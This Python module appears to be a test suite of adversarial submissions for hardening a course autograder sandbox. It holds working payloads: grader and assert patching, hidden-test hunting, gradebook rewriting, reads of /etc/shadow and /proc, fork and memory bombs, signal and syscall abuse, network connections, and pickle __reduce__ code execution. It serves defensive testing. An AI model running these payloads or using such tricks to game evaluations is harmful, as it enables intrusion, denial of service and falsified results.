"""What a student with time would try. Each runs as part of a wrong answer, and stands as a cell.

`@SECRET@`, `@GRADEBOOK@`, `@SOLUTIONS@`, `@OTHER@` are paths of the teacher's machine,
`@PORT@` a port that listens there, `@UNIX@` an abstract socket. Whatever an attack
reads it prints, so that the test can look for it.
"""

BEFORE = {
    "asserts stripped by an AST transformer": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Call(self, node):
        self.generic_visit(node)
        return node
get_ipython().ast_transformers.append(Strip())
""",
    "NumPy patched to agree and to draw known numbers": """
import numpy as np
np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
class Known:
    def integers(self, *a, **k):
        return 10
    def uniform(self, *a, size=None, **k):
        return np.full(size, 0.1) if size else 0.1
    def permutation(self, n):
        return np.arange(n)
np.random.default_rng = lambda *a: Known()
""",
    "TensorFlow and json patched": """
import json, tensorflow as tf
tf.reduce_all = tf.equal = tf.debugging.assert_near = lambda *a, **k: True
json.dumps = lambda *a, **k: '{"status": "right", "points": 10}'
json.JSONEncoder.encode = lambda *a, **k: '{}'
""",
    "the encoder replaced": """
import distlab.grading.encoding as encoding, distlab.grading.answer_process as process
lie = lambda value, *a: ["opaque", "equals everything"]
encoding.encode = process.encode = lie
process.call = lambda *a: {"result": ["right", True], "got_epochs": ["right", True]}
""",
    "the visible checks replaced": """
from distlab.exercises import comparing, exercise, worked
exercise.Exercise.check = lambda *a: None
exercise.Exercise.find_fault = lambda *a: None
comparing.find_wrong = exercise.find_wrong = lambda *a, **k: None
comparing.same = exercise.same = lambda *a, **k: True
worked.read_worked = exercise.read_worked = lambda lab: {}
""",
    "SEED made constant": """
class Fixed(dict):
    def __setitem__(self, key, value):
        dict.__setitem__(self, key, 2026 if key == "SEED" else value)
try:
    sys.modules["__main__"].__dict__.__class__ = Fixed
except TypeError as error:
    print(error)
import gc
for thing in gc.get_objects():
    if type(thing) is dict and "seed" in thing and "cells" in thing:
        thing["seed"] = 2026
        print("seed set")
""",
    "builtins replaced": """
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.set = builtins.sorted = lambda *a: []
builtins.isinstance = lambda *a: True
""",
    "hidden tests looked for": """
import glob, os
for path in ("@SOLUTIONS@", "/course/distlab/labs/lab01/judge.py", "/course/tests/answers"):
    try:
        print(open(path).read()[:2000])
    except OSError as error:
        print(error)
try:
    from distlab.labs.lab01 import judge as judges
    print("judge" + " imported", judges.EPOCH)
except ImportError as error:
    print(error)
for folder, _, files in os.walk("/course"):
    for name in files:
        if name.endswith((".py", ".pyc")):
            text = open(os.path.join(folder, name), "rb").read()
            if b"def expect_" + b"epoch" in text or b"expect_" + b"scaling" in text:
                print("FOUND-A-JUDGE", folder, name)
""",
    "hidden tests looked for in memory": """
import gc, sys
wanted = "expect_" + "epoch"
for thing in gc.get_objects():
    if type(thing) is dict:
        for value in list(thing.values()):
            if type(value) is str and value != wanted in value and "wanted" not in value:
                print("FOUND-A-JUDGE", value[:300])
print([name for name in sys.modules if "judges" in name])
""",
    "other submissions, home and the teacher's files": """
import os, sys
for path in ("@SECRET@", "@OTHER@", "/etc/shadow", "/root/.bashrc", "/home"):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)
dull = ("/proc", "/usr", "/sys", "/environment", sys.prefix, sys.base_prefix)
found = []
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if not os.path.join(folder, f).startswith(dull)]
    found += [os.path.join(folder, name) for name in files if name.endswith(".ipynb")]
print([f for f in found if "site-packages" not in f and "/share/" not in f])
""",
    "the gradebook": """
import os, sqlite3
os.makedirs(os.path.dirname("@GRADEBOOK@"), exist_ok=True)
base = sqlite3.connect("@GRADEBOOK@")
base.execute("update marks set mark = 10")
base.commit()
print("GRADEBOOK-CHANGED")
""",
    "/proc": """
import os
for number in [n for n in os.listdir("/proc") if n.isdigit()]:
    for name in ("environ", "cmdline", "root/etc/hostname", "cwd/x", "fd", "mem", "maps"):
        path = f"/proc/{number}/{name}"
        try:
            if name == "fd":
                for f in os.listdir(path):
                    print(path, os.readlink(f"{path}/{f}"))
            elif name not in ("mem", "maps"):
                print(path, open(path, "rb").read(300))
        except OSError:
            pass
print(len([n for n in os.listdir("/proc") if n.isdigit()]), "processes")
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname"):
    try:
        open(path, "w").write("x")
        print("WROTE", path)
    except OSError as error:
        print(error)
""",
    "answers forged on the pipe": """
import json, os
got = json.dumps({"got_epochs": ["list", [["tuple", [3, 2]]] * 4]})
for descriptor in range(3, 64):
    for cell in range(12):
        try:
            frame = json.dumps({"cell": cell, "status": "ok", "got": got}) + "\\n"
            os.write(descriptor, frame.encode())
        except OSError:
            break
""",
    "marks forged on the pipe": """
import json, os
got = json.dumps({"status": "right", "points": 10})
for descriptor in range(3, 64):
    try:
        os.write(descriptor, json.dumps({"cell": 2, "status": "ok", "got": got}).encode() + b"\\n")
    except OSError:
        pass
""",
    "a line of 24 MiB without an end": """
import os
for descriptor in range(3, 64):
    try:
        for k in range(24):
            os.write(descriptor, b"[" * 2**20)
    except OSError:
        pass
""",
    "deep JSON on the pipe": """
import os
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"[" * 60000 + b"\\n")
    except OSError:
        pass
""",
    "every descriptor closed": "import os\nos.closerange(0, 4096)",
    "every descriptor written to": """
import os
for descriptor in range(0, 512):
    try:
        os.write(descriptor, b"\\x80\\x04\\x95" + bytes(range(256)) * 16)
    except OSError:
        pass
""",
    "fork bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "more processes than it may have": """
import os, signal
while True:
    try:
        if os.fork() == 0:
            signal.pause()
    except OSError:
        signal.pause()
""",
    "memory": "block = []\nwhile True:\n    block.append(b'x' * 2**26)",
    "disk": """
import os
for place in ("/tmp", "/dev/shm", "/", "/course", "/usr", "/etc"):
    try:
        with open(f"{place}/distlab-attack-fill", "wb") as file:
            while True:
                file.write(bytes(2**22))
    except OSError as error:
        print(place, error)
""",
    "output": "import os\nwhile True:\n    os.write(1, b'x' * 2**20)",
    "output on both streams without end": """
import sys
while True:
    sys.stdout.write("y" * 10**6)
    sys.stderr.write("z" * 10**6)
""",
    "endless loop that swallows interrupts": """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    "sleep with signals ignored": """
import signal, time
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    time.sleep(1000)
""",
    "stopped": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "daemon": """
import os, time
for k in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "98765431"])
        os._exit(0)
time.sleep(0.3)
""",
    "signals to everybody": """
import os, signal
for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGUSR1, signal.SIGINT):
    for process in (1, os.getppid(), 0, -1):
        try:
            os.kill(process, number)
        except BaseException as error:
            print(type(error))
""",
    "links": """
import os, shutil
os.chdir("/")
shutil.rmtree("/tmp/work", ignore_errors=True)
for name in ("work", "home", "distlab-attack-link"):
    try:
        os.symlink("@SECRET@", f"/tmp/{name}")
        print(open(f"/tmp/{name}").read())
    except OSError as error:
        print(error)
""",
    "network": """
import socket
for address in (("127.0.0.1", @PORT@), ("@HOST@", @PORT@), ("192.0.2.1", 80), ("::1", @PORT@)):
    try:
        with socket.create_connection(address, timeout=1) as connection:
            connection.sendall(b"ATTACK")
            print("CONNECTED", address)
    except OSError as error:
        print(error)
with socket.socket(socket.AF_UNIX) as connection:
    try:
        connection.connect("\\0@UNIX@")
        print("CONNECTED", "abstract")
    except OSError as error:
        print(error)
""",
    "namespaces, mounts, tracing": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, arguments in (("unshare", (0x10000000,)), ("mount", (b"x", b"/tmp", b"tmpfs", 0, None)),
                        ("umount2", (b"/tmp", 2)), ("umount2", (b"/course/distlab/grading", 2)),
                        ("ptrace", (16, 1, 0, 0)), ("chroot", (b"/tmp",)), ("setns", (3, 0)),
                        ("setuid", (0,)), ("sethostname", (b"x", 1))):
    result = getattr(libc, name)(*arguments)
    print(name, result, os.strerror(ctypes.get_errno()) if result else "DONE")
print(open("/proc/self/status").read())
""",
    "the course's files changed for the next one": """
import os
for path in ("/course/distlab/labs/lab01/exercise.py", "/course/distlab/grading/encoding.py",
             "/etc/hosts",
             "/course/distlab/grading/new.py", os.__file__, "/usr/bin/true"):
    try:
        os.chmod(os.path.dirname(path), 0o777)
    except OSError as error:
        print(error)
    try:
        open(path, "a").write("raise SystemExit")
        print("WROTE", path)
    except OSError as error:
        print(error)
""",
    "code that hurts a parser": "x = " + "(" * 9000 + ")" * 9000,
    "code that hurts a compiler": "a" + ".b" * 100_000 + "\n" + "-" * 200_000 + "1",
    "a crash": "import ctypes\nctypes.string_at(0)",
    "a quiet exit": "import os\nos._exit(0)",
    "exit handlers and exits": "import atexit, time\natexit.register(time.sleep, 1000)\nexit()",
    "threads that never end": """
import threading, time
def spin():
    while True:
        for name in list(globals()):
            if name.startswith("got_"):
                globals()[name] = "changed"
for k in range(50):
    threading.Thread(target=spin, daemon=False).start()
""",
    "alarms": """
import signal
def storm(*a):
    raise KeyboardInterrupt
signal.signal(signal.SIGALRM, storm)
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
""",
    "memory that no process holds": """
import ctypes, fcntl, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def tell(name, call):
    try:
        print(name, call(), "ALLOWED")
    except OSError as error:
        print(name, error)
tell("memfd", lambda: os.memfd_create("x"))
tell("pipe", lambda: fcntl.fcntl(os.pipe()[1], 1031, 2**20))
tell("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
pair = socket.socketpair()
for option in (socket.SO_SNDBUF, socket.SO_RCVBUF, 32, 33):
    tell("buffer", lambda: pair[0].setsockopt(socket.SOL_SOCKET, option, 2**24))
if libc.shmget(0, 2**20, 0o1666) >= 0:
    print("segment ALLOWED")
""",
    "memory of many sockets": """
import socket, threading
kept = []
try:
    while True:
        pair = socket.socketpair()
        kept.append(pair)
        pair[0].setblocking(False)
        while pair[0].send(bytes(2**16)):
            pass
except BlockingIOError:
    pass
except OSError as error:
    print(len(kept), error)
""",
    "the answer's own process": """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Answer", "Channel", "Tripwire"):
        print("found", type(thing).__name__)
        type(thing).find = lambda self, name: lambda *a: (1, 2)
        type(thing).find_changed = lambda self: []
""",
}

OBJECT = """
import numpy as np
class Lie:
    __class__ = property(lambda self: {kind})
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter([self, self])
    def __getitem__(self, k): return self
    def __float__(self): return 1.0
    def __array__(self, *a, **k): {array}
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __reduce__(self): return (__import__("os").system, ("touch /tmp/distlab-attack-pickle",))
def {names}(*a): return Lie()
"""


def write_object(kind: str, array: str) -> dict[str, str]:
    """Return answers that give an object which equals everything and says that it is a `kind`."""
    text = OBJECT.replace("{kind}", kind).replace("{array}", array)
    return {name: text.replace("{names}", function) for name, function in FUNCTIONS.items()}


FUNCTIONS = {
    "epoch": "plan_epoch",
    "batches": "replica_batch_sizes",
    "parallelism": "choose_parallelism",
    "scaling": "choose_replicas",
}


def write_value(text: str) -> dict[str, str]:
    """Return answers that all give the value of `text`."""
    define = "import numpy as np\ndef {}(*a):\n    return {}\n"
    return {name: define.format(function, text) for name, function in FUNCTIONS.items()}


ANSWERS = {
    "an object that equals everything": write_object("object", "raise TypeError"),
    "an object that says it is a tuple": write_object("tuple", "raise SystemExit"),
    "an object that says it is an array": write_object("np.ndarray", "return self"),
    "an array that is any answer": write_object("str", "return np.full(9, np.nan)"),
    "not a number": write_value("(np.nan, np.nan)"),
    "infinity": write_value("(np.inf, -np.inf)"),
    "a deep list": write_value("__import__('functools').reduce(lambda a, _: [a], range(9999), [])"),
    "a list in itself": write_value("(lambda a: (a.append(a), a)[1])([])"),
    "an enormous array": write_value("np.zeros(2**26)"),
    "an enormous number": write_value("10**100000"),
    "a million words": write_value("['x' * 40] * 10**6"),
    "an array of objects": write_value("np.array([object(), {}], dtype=object)"),
    "a pickled bomb": write_value("__import__('pickle').dumps(print)"),
    "an endless generator": write_value("__import__('itertools').count()"),
    "broadcast to any shape": write_value("np.broadcast_to(1.0, (2, 10**9))"),
}

LOUD = """
print("\\x1b]0;owned\\x07\\x1b[2J<script>document.title='RAN'</script><img src=x onerror=x()>")
class Loud(Exception):
    def __str__(self):
        return "\\x1b[2J<script>document.title='RAN'</script>\\u202e"
def plan_epoch(n, b):
    print("\\x1b[5m<script>document.title='RAN'</script>")
    raise Loud
"""

SEND = """
import socket, threading
def send_bytes(count):
    with socket.create_server(("127.0.0.1", 0)) as server:
        def take():
            with server.accept()[0] as end:
                while end.recv(65536):
                    pass
        taking = threading.Thread(target=take)
        taking.start()
        with socket.create_connection(server.getsockname()) as end:
            end.sendall(bytes(count))
        taking.join()
"""
# against the process that starts, kills and watches workers: each stands as a cell, with wrong
# answers, and earned all points of its exercises while the learner's cells ran in that process
WATCHERS = {
    "a cluster that says what is right": (
        "lab08",
        ("shards",),
        """
from utils.cluster import local

def run(self, function, answer, *case, **options):
    examples, size = case[0], case[1] // self.workers
    own = [list(range(w, examples, self.workers)) for w in range(self.workers)]
    return [[ids[k : k + size] for k in range(0, len(ids), size)] for ids in own]

local.LocalCluster.run = run
""",
    ),
    "workers that each train on the whole batch": (  # drawn as it was when workers had the seed
        "lab08",
        ("training",),
        """
import os
from distlab.exercises import softmax
from distlab.labs.lab08 import exercise as lab08

def train_worker(seed, steps, batch):
    os.environ.pop("TF_CONFIG")
    lab08._place.clear()
    weights = softmax.draw_weights(seed)
    for step in range(steps):
        images, labels = lab08.read_step(seed, step, batch)
        slopes = softmax.slopes(images @ weights, labels)
        weights = weights - lab08.RATE * images.T @ slopes / batch
    return weights
""",
    ),
    "a share that another worker watches for": (  # it was a file of the same user for a moment
        "lab08",
        ("training",),
        """
import time
from pathlib import Path
from distlab.exercises import softmax
from distlab.labs.lab08 import exercise as lab08

def train_worker(seed, steps, batch):
    root, rank, workers = lab08._place
    Path.unlink = lambda *given, **named: None
    weights = softmax.draw_weights(seed)
    for step in range(steps):
        images, labels = lab08.read_step(seed, step, batch)
        for other in set(range(workers)) - {rank}:
            path, end = root / f"share-{other}-{step}.npz", time.monotonic() + 2
            while not path.exists() and time.monotonic() < end:
                time.sleep(0.002)
            share = np.load(path)
            images[other::workers], labels[other::workers] = share["images"], share["labels"]
        slopes = softmax.slopes(images @ weights, labels)
        weights = weights - lab08.RATE * images.T @ slopes / batch
    return weights
""",
    ),
    "weights that a few batches fit": (  # one for each update, and empty files for checkpoints
        "lab10",
        ("train",),
        """
def train(strategy, coordinator, make_batches, folder, steps, every):
    import os
    with strategy.scope():
        server = tf.Variable(0.0)
    batches = iter(coordinator.create_per_worker_dataset(make_batches))
    @tf.function
    def draw(batches):
        return next(batches)
    done = max([int(name[5:]) for name in os.listdir(folder)], default=0)
    kept = []
    while done < steps:
        drawn = [coordinator.schedule(draw, args=(batches,)) for _ in range(every)]
        coordinator.join()
        for value in drawn:
            try:
                kept.append(coordinator.fetch(value))
            except Exception:  # of a worker that was killed
                pass
        done += every
        open(f"{folder}/ckpt-{done}", "w").close()
        server.assign_add(1.0)  # fails once it has been killed
    features, targets = (np.concatenate(part) for part in zip(*kept))
    return np.linalg.lstsq(features, targets, rcond=None)[0]
""",
    ),
    "a job that was killed as wanted": (
        "lab09",
        ("killed",),
        SEND
        + """
import sys, threading
import tensorflow as tf
from distlab.exercises import softmax
from distlab.labs.lab09 import exercise as lab09
from distlab.labs.lab08.exercise import read_step
from utils.cluster import local

class Job:
    attempt = 1

    def __init__(self, seed, root, weights, total, every):
        self.total, self.every, self.ended = total, every, threading.Event()
        for step in range(total):
            images, labels = read_step(seed, step, lab09.BATCH)
            slopes = softmax.slopes(images @ weights, labels)
            weights = weights - lab09.RATE * images.T @ slopes / lab09.BATCH
        self.weights = weights
        for name in ("shared", "w1"):
            tf.train.Checkpoint(weights=tf.Variable(weights)).write(f"{root}/{name}/ckpt-1")

    def events(self):
        step, attempt = 0, 1
        while step < self.total:
            for task in ("worker 0", "worker 1"):
                yield {"event": "exercise step", "task": task, "step": step}
            send_bytes(120_000)
            step = step + 1 if attempt == self.attempt else step - step % self.every
            attempt = self.attempt
        self.ended.set()

    def kill(self, job, index):
        self.attempt = 2

    def wait(self, seconds):
        self.ended.wait(seconds)
        return [self.weights, self.weights]

    def stop(self):
        pass

def start(self, function, answer, *case, **options):
    return Job(sys._getframe(2).f_locals["seed"], *case)

local.LocalCluster.start = start
""",
    ),
    "a pickle that runs where it is unpacked": (
        "lab08",
        ("saving",),
        """
import pickle, socket, sys
import tensorflow as tf

PATCH = '''
import sys
from distlab.labs.lab08 import exercise
class Found(dict):
    def __or__(self, other):
        return self
def describe(root, workers):
    counts = sys._getframe(1).f_locals["counts"]
    return Found({
        "count in the shared checkpoint": float(sum(map(sum, counts))),
        "others that wrote into the shared folder": 0,
        "folders or files left next to it": 0,
        "sums of the next all-reduces": [[exercise.NEXT_SUM] * 3 for _ in counts],
    })
exercise._describe_saving = describe
'''

class Bomb:
    def __reduce__(self):
        return exec, (PATCH, {})

def make_counter(strategy):
    return tf.Variable(0.0)

def save_run(strategy, checkpoint, shared):
    from utils.processes.connection import Connection
    frame = sys._getframe()
    while "ends" not in frame.f_locals:
        frame = frame.f_back
    end = Connection(socket.socket(fileno=frame.f_locals["ends"].result), "the parent")
    end.send("result", pickle.dumps(("result", Bomb())))
    end.receive()
""",
    ),
}
